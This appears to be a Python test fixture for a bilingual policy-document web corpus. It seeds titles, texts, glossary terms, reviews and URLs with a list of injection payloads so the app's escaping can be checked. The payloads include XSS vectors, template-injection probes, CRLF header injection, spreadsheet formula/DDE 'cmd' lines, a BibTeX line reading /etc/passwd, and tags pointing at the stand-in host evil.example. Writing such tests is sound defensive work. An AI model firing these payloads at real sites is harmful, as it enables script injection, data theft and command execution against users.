"""A library of markup: what attackers write into titles, texts, terms, names and notes, and every address that shows it."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle
from urllib.parse import quote, urlencode

from corpus.glossary import Term, TermKind, TermSource
from corpus.library import Library, Source
from corpus.model import (
    Bilingual,
    Item,
    Kind,
    Language,
    Metadata,
    MinistryLink,
    Note,
    Origin,
    ParsedDocument,
    ParsedMeasure,
    Role,
    Section,
    Status,
    Text,
)
from corpus.reviews import make_review

MARK = "kxss"  # every payload that makes an element or an attribute makes one of this name
_RUN = f"window.{MARK}=1"
PAYLOADS = (
    f"<script {MARK}>{_RUN}</script>",
    f"<ScRiPt {MARK}>{_RUN}</sCrIpT >",
    f"<script {MARK} src=data:text/javascript,{_RUN}></script>",
    f"<img {MARK} src=x onerror={_RUN}>",
    f"<img {MARK} src=x onerror='{_RUN}' alt=\"",
    f"<svg {MARK} onload={_RUN}>",
    f"<svg {MARK}><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script {MARK}>{_RUN}</script></svg>",
    f"<math {MARK}><mtext><table><mglyph><style><img src onerror={_RUN}>",
    f"<iframe {MARK} srcdoc='<script>top.{MARK}=1</script>'></iframe>",
    f"<object {MARK} data=javascript:{_RUN}></object>",
    f"<details {MARK} open ontoggle={_RUN}>",
    f"<input {MARK} autofocus onfocus={_RUN}>",
    f"<a {MARK} href=javascript:{_RUN}>x</a>",
    f"<form {MARK} action=//evil.example><button>x</button></form>",
    f"<base {MARK} href=//evil.example/>",
    f"<meta {MARK} http-equiv=refresh content=0;url=//evil.example>",
    f"<link {MARK} rel=stylesheet href=//evil.example/x.css>",
    f"<style {MARK}>*{{display:none}}</style>",
    f"</title><script {MARK}>{_RUN}</script>",
    f"</textarea><script {MARK}>{_RUN}</script>",
    f"</option></select><img {MARK} src=x onerror={_RUN}>",
    f"--><script {MARK}>{_RUN}</script><!--",
    f"]]><script {MARK}>{_RUN}</script><![CDATA[",
    f'" {MARK}=1 onmouseover="{_RUN}',
    f"' {MARK}=1 onmouseover='{_RUN}",
    f'"><img {MARK} src=x onerror={_RUN}>',
    f"'><img {MARK} src=x onerror={_RUN}>",
    f"` {MARK}=1 onmouseover=`{_RUN}`",
    f"x {MARK}=1 autofocus onfocus={_RUN} ",
    f"&lt;script {MARK}&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img {MARK} src=x onerror={_RUN}&#62;",
    f"\\u003cscript {MARK}\\u003e{_RUN}\\u003c/script\\u003e",
    f"<!DOCTYPE x [<!ENTITY e '{MARK}'>]>&e;",
    f"javascript:{_RUN}//",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script {MARK}>{_RUN}</script>",
    "{{7*7}}{{config}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{% for x in [1] %}kxss{% endfor %}%(kxss)s{0.__class__}",
    f"\u202e<b {MARK}>\u202c\u2066gnp.exe\u2069",
    f"+ADw-script {MARK}+AD4-{_RUN}+ADw-/script+AD4-",
    f"\ufeff<\u0000script {MARK}>{_RUN}</script>",
    f"\r\nX-{MARK}: 1\r\n\r\n<script {MARK}>{_RUN}</script>",
    f"%0d%0aX-{MARK}:%201",
    "=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1;=2+2",
    "-2+3+cmd|'/C calc'!A0",
    "\t=1+1",
    "＝１＋１",
    "}, title = {{x}}, note = {\\input{/etc/passwd}}",
    "x\r\nTY  - JOUR\r\nER  - ",
)  # fmt: skip
PLAN, OTHER = "hostile-2019", "hostile-2023"
_PARAMETERS = (
    "q", "lang", "document", "ministry", "year", "sort", "page", "limit", "hl", "view", "kind", "format", "unit", "measure", "cursor",
    "official", "within", "bom", "rendering", "relation", "status", "sentences", "prefix",
)  # fmt: skip
_IN_PARAMETERS = tuple(PAYLOADS[number] for number in (0, 24, 25, 27, 43))
_PLACES = (
    "/", "/clause", "/ministries", "/documents", f"/documents/{PLAN}", "/glossary", f"/compare/{PLAN}/{OTHER}", f"/measures/{PLAN}/1.1",
    "/glossary.tsv", "/glossary.tbx", "/feed.atom", "/opensearch.xml", "/opensearch-clause.xml", "/export.csv", "/help", "/about", "/api",
    "/api/v1/search", "/api/v1/clause", "/api/v1/measures", "/api/v1/pairs", "/api/v1/glossary", "/api/v1/ministries", "/api/v1/help",
    "/api/v1/openapi.json",
)  # fmt: skip
FORMATS = ("tmx", "tbx", "terms", "csv", "tsv", "jsonl", "xlsx", "moses")


def terms() -> tuple[Term, ...]:
    """Return a term with each payload in every field; terms hold no control characters."""
    clean = [" ".join(one.replace("\x00", "").split()) for one in PAYLOADS]
    return tuple(Term(one, one, (one, f"lamp {one}"), TermKind.PHRASE, one, TermSource.USER) for one in dict.fromkeys(clean))


def fill(library: Library) -> None:
    """Put two plans in both languages into `library`, every payload in every text, with a review of each pair."""
    for id_, year in ((PLAN, "2019-05"), (OTHER, "2023-03")):
        for language in Language:
            library.add(_plan(id_, year, language), Source.of(f"{id_}.{language}.txt", f"{id_} {language}".encode()))
    for number, payload in enumerate(PAYLOADS, 1):
        status = Status.ACCEPTED if number % 2 else Status.REJECTED
        review = make_review(f"{PLAN}/1.{number}", f"{OTHER}/1.{number}", status, by=payload, note=payload)
        library.review(review, add=True)


def _plan(id_: str, date: str, language: Language) -> ParsedDocument:
    title = f"灯台 {PAYLOADS[0]}" if language is Language.JA else f"Lighthouse {PAYLOADS[0]}"
    metadata = Metadata(
        id_,
        Bilingual(f"灯台 {PAYLOADS[0]}", f"Lighthouse {PAYLOADS[0]}"),
        issuer=Bilingual(PAYLOADS[3], PAYLOADS[24]),
        date=date,
        series="hostile",
        edition=int(date[3]),
        abstract=Bilingual(PAYLOADS[5], PAYLOADS[26]),
        url=f"javascript:{_RUN}",
    )
    sections = (Section("1", Bilingual(title, title)),)
    return ParsedDocument(metadata, language, sections, tuple(_measures(language)))


def _measures(language: Language) -> Iterator[ParsedMeasure]:
    for number, payload in enumerate(PAYLOADS, 1):
        said = f"灯台の{payload}を見て回る。" if language is Language.JA else f"The lamps {payload} are looked at."
        text = Text(payload, f"{said}\n{payload}\n・{payload}", Origin.OFFICIAL, (Note(payload, payload, 3), Note("2", payload)))
        yield ParsedMeasure(
            f"1.{number}", Kind.MEASURE, text, path=("1",), items=(Item(payload, payload),),
            ministries=(MinistryLink("lamps", Role.RESPONSIBLE),),
        )  # fmt: skip


def stored() -> list[str]:
    """Return the addresses that show what is in the library."""
    found = ["/", "/?q=灯台&limit=100", "/?q=lamps&limit=100", "/clause?q=灯台の", "/documents", f"/documents/{PLAN}", "/glossary", "/glossary?limit=100"]
    found += [f"/compare/{PLAN}/{OTHER}", "/ministries", "/ministries/lamps", "/feed.atom", "/help", "/about", "/api"]
    for number in range(1, len(PAYLOADS) + 1):
        measure = f"/measures/{PLAN}/1.{number}"
        found += [measure, f"{measure}?hl=en", f"/api/v1{measure}"]
        found += [f"{measure}?view={view}" for view in ("alternate", "ja", "en")]
    found += [f"/glossary/{quote(term.ja, safe='')}" for term in terms() if term.ja not in (".", "..")]
    found += ["/api/v1/search?q=灯台&limit=100", "/api/v1/documents", f"/api/v1/documents/{PLAN}", "/api/v1/pairs", "/api/v1/glossary", "/api/v1/clause?q=灯台の"]
    return [*found, f"/api/v1/compare/{PLAN}/{OTHER}", "/api/v1/ministries/lamps"]


def asked() -> list[str]:
    """Return addresses that hold the payloads themselves: as questions, parameters and places that are not there."""
    found = []
    for payload in PAYLOADS:
        found += [f"{place}?{urlencode({'q': payload})}" for place in ("/", "/clause", "/glossary", "/ministries")]
        said = quote(payload, safe="")
        found += [f"/{said}", f"/measures/{said}/1", f"/documents/{said}", f"/ministries/{said}", f"/compare/{said}/{said}", f"/api/v1/{said}", f"/export.{said}", f"/api/v1/ministries/{said}"]
    for place in _PLACES:
        found += [f"{place}?{urlencode({name: payload})}" for name, payload in zip(_PARAMETERS, cycle(_IN_PARAMETERS))]
        found.append(f"{place}?{urlencode(dict.fromkeys(_PARAMETERS, PAYLOADS[26]))}")
    return found
